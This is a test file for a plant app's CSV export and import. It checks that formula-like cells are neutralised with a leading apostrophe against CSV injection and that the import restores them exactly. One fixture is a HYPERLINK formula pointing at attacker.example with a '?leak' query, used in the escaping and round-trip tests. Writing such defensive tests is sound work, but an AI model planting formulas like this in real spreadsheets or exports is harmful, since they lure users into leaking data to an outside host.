// Every CSV the app writes must be safe to open in a spreadsheet (OWASP "CSV injection"): a text
// cell that starts with = + - @, a tab or a carriage return gets a ' in front, so it is shown as
// text and never run as a formula. The import takes that ' off again, so a file the app wrote reads
// back exactly, names that themselves start with ' and a formula character included. An id that
// is an integer is never a formula, and is written digit for digit, negative or not.
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../lib/csv/plant-columns';
import { csvRecords, parsePlantsCsv, toCsv } from '../../lib/csv/plants-csv';

const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak","click")';

// [what, the cell, the cell as written] in the name, tag and error columns.
const NEUTRALISED: [string, string, string][] = [
  ['=', '=1+1', `"'=1+1"`],
  ['+', '+SUM(A1)', `"'+SUM(A1)"`],
  ['-', '-2+3', `"'-2+3"`],
  ['@', '@SUM(A1)', `"'@SUM(A1)"`],
  ['a tab', '\t=1+1', `"'\t=1+1"`],
  ['a carriage return', '\r=1+1', `"'\r=1+1"`],
  ['a formula with quotes', HYPERLINK, `"'=HYPERLINK(""http://attacker.example/?leak"",""click"")"`],
  ["' and =", "'=x", `"''=x"`],
  ["'' and +", "''+y", `"'''+y"`],
  ['- and digits', '-5', `"'-5"`],
];

// Cells that start with nothing a spreadsheet runs, written as they are.
const UNTOUCHED = ["'Pink Princess'", "'", "''", "'x=1", 'a=b', 'Plain', ' =1+1', '5', ''];

/** The failed-rows file's one data row: id, name, tag and error. */
const failedRow = (cell: string) => toCsv([...CSV_COLUMNS, 'error'], [['1', cell, cell, cell]]).split('\r\n')[1];
const failedRowWithId = (id: string) => toCsv([...CSV_COLUMNS, 'error'], [[id, 'Plain', '', 'why']]).split('\r\n')[1];

describe('toCsv', () => {
  it.each(NEUTRALISED)("puts a ' in front of a cell starting with %s", (_what, cell, written) => {
    expect(failedRow(cell)).toBe(`1,${written},${written},${written}`);
  });

  it.each(UNTOUCHED.map((cell) => [cell]))('writes %j as it is (quoted only where RFC 4180 needs it)', (cell) => {
    const quoted = /^ /.test(cell) ? `"${cell}"` : cell;
    expect(failedRow(cell)).toBe(`1,${quoted},${quoted},${quoted}`);
  });

  it('writes an id that is an integer digit for digit, the int64 extremes and a negative one included', () => {
    const ids = ['-5', '-9223372036854775808', '9223372036854775807', '0', '-1'];
    expect(toCsv([...CSV_COLUMNS, 'error'], ids.map((id) => [id, '-5', '-5', 'why']))).toBe(
      'id,name,tag,error\r\n' + ids.map((id) => `${id},"'-5","'-5",why\r\n`).join(''),
    );
  });

  // The id column of the import page's file of failed rows holds what the file held: text, unless
  // it is an integer written as the integer prints.
  it.each([
    ['-2+3', `"'-2+3"`],
    ['=1+1', `"'=1+1"`],
    ['-0', `"'-0"`],
    ['-05', `"'-05"`],
    ["'-5", `"''-5"`],
    ['+5', `"'+5"`],
  ])('writes an id cell %j that is not an integer as text, neutralised', (id, written) => {
    expect(failedRowWithId(id)).toBe(`${written},Plain,,why`);
  });

  it('leaves the header row alone', () => {
    expect(toCsv([...CSV_COLUMNS, 'error'], []).split('\r\n')[0]).toBe('id,name,tag,error');
  });

  it('writes the header alone for no rows, and no records', () => {
    expect(toCsv(CSV_COLUMNS, [])).toBe('id,name,tag\r\n');
    expect(csvRecords([])).toBe('');
  });
});

describe('parsePlantsCsv', () => {
  it.each([...NEUTRALISED.map(([, cell]) => cell), ...UNTOUCHED])('reads back exactly what toCsv wrote: %j', (cell) => {
    const parsed = parsePlantsCsv(toCsv([...CSV_COLUMNS, 'error'], [[cell, cell, cell, 'why']]));
    if (!parsed.ok) throw new Error(parsed.message);
    expect(parsed.records[0].values).toEqual({ id: cell, name: cell, tag: cell });
  });

  it('gives back the plants of an export: formula-like names and tags, and the int64 extremes', () => {
    const plants = [
      { id: -5n, name: HYPERLINK, tag: '=1+1' },
      { id: -9223372036854775808n, name: '+SUM(A1)', tag: '-minus' },
      { id: 9223372036854775807n, name: '-5', tag: '-9223372036854775808' },
      { id: 7n, name: "'=x", tag: "''@y" },
      { id: 8n, name: '@home', tag: undefined },
      { id: 9n, name: "'Pink Princess'", tag: 'aroid' },
    ];
    // As GET /plants/export writes them (lib/plants/export.ts): the header, then the records.
    const text = `${CSV_COLUMNS.join(',')}\r\n${csvRecords(plants.map(({ id, name, tag }) => [id, name, tag ?? '']))}`;
    expect(text).toBe(
      'id,name,tag\r\n' +
        `-5,"'=HYPERLINK(""http://attacker.example/?leak"",""click"")","'=1+1"\r\n` +
        `-9223372036854775808,"'+SUM(A1)","'-minus"\r\n` +
        `9223372036854775807,"'-5","'-9223372036854775808"\r\n` +
        `7,"''=x","'''@y"\r\n` +
        `8,"'@home",\r\n` +
        "9,'Pink Princess',aroid\r\n",
    );
    // The file of failed rows writes the same ids, given as the file's text.
    expect(toCsv(CSV_COLUMNS, plants.map(({ id, name, tag }) => [id.toString(), name, tag ?? '']))).toBe(text);
    const parsed = parsePlantsCsv(text);
    if (!parsed.ok) throw new Error(parsed.message);
    expect(parsed.records.map((record) => record.problems)).toEqual(plants.map(() => ({})));
    expect(parsed.records.map((record) => record.plant)).toEqual(plants);
  });

  it("takes one ' off a cell that starts with ' and a formula character, whoever wrote the file", () => {
    const parsed = parsePlantsCsv("id,name,tag\r\n'-12,'=SUM(A1),'''+x\r\n13,'Pink',''\r\n");
    if (!parsed.ok) throw new Error(parsed.message);
    expect(parsed.records.map((record) => record.plant)).toEqual([
      { id: -12n, name: '=SUM(A1)', tag: "''+x" },
      { id: 13n, name: "'Pink'", tag: "''" },
    ]);
  });
});
